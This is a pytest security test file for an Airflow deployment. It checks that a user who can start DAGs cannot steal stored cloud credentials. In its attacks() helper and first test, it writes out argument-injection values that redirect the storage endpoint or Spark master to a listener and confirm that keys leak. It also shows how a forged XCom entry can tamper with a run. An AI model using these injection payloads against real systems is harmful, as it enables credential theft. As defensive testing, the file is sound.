"""What somebody may do in a running Airflow who may start DAGs, and read no connection."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from local_airflow.home import JOBS_BIN, LOOPBACK
from local_airflow.rest import AirflowClient, wait_until

from tests.airflow.airflow_server import TestAirflow
from tests.airflow.tables import TableMaker, Tables

pytestmark = pytest.mark.nightly

KEY, SECRET, TOKEN = "AKIAUNLUCKY", "sk-90ce1f", "tok-51fe7d"
DAGS = ("memwal_merge", "memwal_backfill", "memwal_garbage")


class Listener:
    """Elsewhere: takes connections, and remembers how each began."""

    def __init__(self) -> None:
        self._socket = socket.create_server((LOOPBACK, 0))
        self.port = self._socket.getsockname()[1]
        self.heard: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    self.heard.append(connection.recv(65536))
                except OSError:
                    self.heard.append(b"")

    def close(self) -> None:
        # Wakes whoever waits in accept.
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def admin(airflow_server: TestAirflow) -> Iterator[AirflowClient]:
    client = airflow_server.client("admin")
    client.wait_for_dags(*DAGS)
    for dag_id in DAGS:
        client.set_paused(dag_id, False)
    secret_options = json.dumps({"aws_session_token": TOKEN, "aws_region": "eu-central-1"})
    client.http.delete("/api/v2/connections/memwal_default")
    body = {
        "connection_id": "memwal_default",
        "conn_type": "memwal",
        "login": KEY,
        "password": SECRET,
        "extra": json.dumps({"secret_storage_options": secret_options}),
    }
    client.post("/connections", body)
    yield client
    client.http.delete("/api/v2/connections/memwal_default").raise_for_status()
    for dag_id in DAGS:
        client.set_paused(dag_id, True)


@pytest.fixture
def starter(airflow_server: TestAirflow, admin: AirflowClient) -> AirflowClient:
    client = airflow_server.client("starter")
    assert client.http.get("/api/v2/connections").status_code == 403
    return client


def attacks(listener: Listener) -> list[list[str]]:
    """Options in place of tables: one sends keys elsewhere, one dials a Spark elsewhere."""
    elsewhere = f"{LOOPBACK}:{listener.port}"
    option = "--storage-option"
    return [
        ["s3://bucket/x", f"{option}=aws_endpoint=http://{elsewhere}", f"{option}=allow_http=true"],
        ["orders", "--engine=spark", f"--master=spark://{elsewhere}"],
    ]


def test_what_the_attacks_would_do(
    table_maker: TableMaker, listener: Listener, tmp_path: Path
) -> None:
    """As tables that are not kept apart from options: else nothing heard would mean nothing."""
    tables = Tables(table_maker, tmp_path / "tables", tmp_path / "memwal.toml")
    tables.make("orders", generations=1)
    options = {"aws_access_key_id": KEY, "aws_secret_access_key": SECRET}
    options |= {"aws_session_token": TOKEN, "aws_region": "eu-central-1"}
    for words in attacks(listener):
        before = len(listener.heard)
        process = subprocess.Popen(
            [JOBS_BIN / "memwal", "backfill", *words, "--config", tables.config_file],
            env={**os.environ, "MEMWAL_STORAGE_OPTIONS": json.dumps(options)},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            wait_until("a connection", lambda n=before: len(listener.heard) > n, 120)
        finally:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
    assert KEY.encode() in listener.heard[0]
    assert TOKEN.encode() in listener.heard[0]


def test_options_in_place_of_tables_get_nowhere(
    airflow_server: TestAirflow, starter: AirflowClient, listener: Listener
) -> None:
    known = {dag_id: set(starter.runs(dag_id)) for dag_id in DAGS}
    for tables in attacks(listener):
        for dag_id in DAGS:
            conf = {"tables": tables, **({"jobs": ["merge"]} if "backfill" in dag_id else {})}
            with pytest.raises(
                httpx.HTTPStatusError, match=r"400 .*Invalid input for param tables"
            ):
                starter.trigger(dag_id, conf)
    # Those of other tests may go on.
    assert {dag_id: set(starter.runs(dag_id)) for dag_id in DAGS} == known
    assert listener.heard == []


def test_nor_do_they_when_the_run_itself_is_tampered_with(
    airflow_server: TestAirflow, starter: AirflowClient, listener: Listener
) -> None:
    """The same user may end a task by hand, and say what came of it."""
    for tables, says in zip(attacks(listener), ("a dash", "a dash"), strict=True):
        run = tampered(starter, tables)
        assert starter.wait_for_run("memwal_backfill", run) == "failed"
        assert says in starter.log("memwal_backfill", run, "backfill")
    elsewhere = str(airflow_server.home.folder / "other")
    run = tampered(starter, [elsewhere])
    assert starter.wait_for_run("memwal_backfill", run) == "failed"
    assert "not in the configuration" in starter.log("memwal_backfill", run, "backfill")
    assert listener.heard == []


def tampered(starter: AirflowClient, tables: list[str]) -> str:
    """A run whose first task did not run, but is said to have chosen these tables."""
    starter.set_paused("memwal_backfill", True)
    run = starter.trigger("memwal_backfill", {"tables": ["orders"], "jobs": ["merge"]})
    path = f"/dags/memwal_backfill/dagRuns/{run}/taskInstances/tables"
    starter.patch(path, {"new_state": "success"})
    starter.post(f"{path}/xcomEntries", {"key": "return_value", "value": tables})
    starter.set_paused("memwal_backfill", False)
    return run
